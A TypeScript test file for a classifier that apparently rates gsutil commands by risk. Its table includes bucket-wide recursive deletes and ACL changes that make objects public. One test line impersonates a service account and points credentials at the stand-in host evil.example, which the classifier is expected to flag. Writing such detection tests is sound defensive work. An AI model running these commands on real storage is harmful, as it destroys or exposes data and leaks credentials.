import { describe, expect, it } from 'vitest'
import { readingOf, table } from './reading-of.ts'

const ROWS = table(`
  read         gsutil ls gs://b
  read         gsutil ls -la gs://b/*.txt
  read         gsutil cp gs://b/a .
  read         gsutil -m cp -r gs://b/a .
  write        gsutil -m cp -r ./a gs://b
  write        gsutil cp gs://a/x gs://b/x
  admin        gsutil cp -a public-read x gs://b
  read         gsutil cat gs://b/x
  destructive  gsutil mv gs://b/x gs://b/y
  destructive  gsutil mv gs://b/x .
  write        gsutil mv x gs://b
  destructive  gsutil rm gs://b/x
  destructive  gsutil -q -m rm -r gs://b/*
  destructive  gsutil del gs://b/x
  destructive  gsutil rb gs://b
  write        gsutil mb -l eu gs://b
  write        gsutil rsync -r . gs://b
  read         gsutil rsync -r gs://b .
  destructive  gsutil rsync -rd . gs://b
  read         gsutil rsync -ndr . gs://b
  write        gsutil rsync . gs://b -n
  write        gsutil rsync -x -n . gs://b
  admin        gsutil acl set public-read gs://b/x
  admin        gsutil acl ch -u AllUsers:R gs://b/x
  read         gsutil acl get gs://b/x
  read         gsutil getacl gs://b/x
  admin        gsutil setacl private gs://b/x
  admin        gsutil defacl ch -u AllUsers:R gs://b
  admin        gsutil iam ch allUsers:objectViewer gs://b
  read         gsutil iam get gs://b
  secret-read  gsutil signurl -d 10m key.json gs://b/x
  admin        gsutil hmac create sa@p.iam
  read         gsutil lifecycle get gs://b
  destructive  gsutil lifecycle set l.json gs://b
  write        gsutil versioning set off gs://b
  admin        gsutil logging set on -b gs://l gs://b
  admin        gsutil ubla set off gs://b
  admin        gsutil kms authorize -k k
  read         gsutil kms serviceaccount
  read         gsutil version
  read         gsutil help rm
  read         gsutil --version
  write        gsutil setmeta -h a:b gs://b/x
  read         gsutil -h a:b -o GSUtil:x=1 ls
  unknown      gsutil frobnicate gs://b
  unknown      gsutil --frob ls
`).map((row) => /^(\S+) +(.*)$/.exec(row)!.slice(1) as [string, string])

describe('gsutil', () => {
  it.each(ROWS)('%s: %s', (cls, line) => {
    expect(readingOf(line.replaceAll(/(gs:\S*\*\S*)/g, "'$1'")).operation.class).toBe(cls)
  })

  it('names the account that it borrows, and where a credential would go', () => {
    const reading = readingOf('gsutil -i sa@p.iam -o Credentials:gs_host=evil.example ls gs://b')
    expect(reading.selectors).toEqual([{ kind: 'gcp', impersonate: 'sa@p.iam' }])
    expect(reading.redirects).toEqual(['-o Credentials:gs_host'])
  })
})
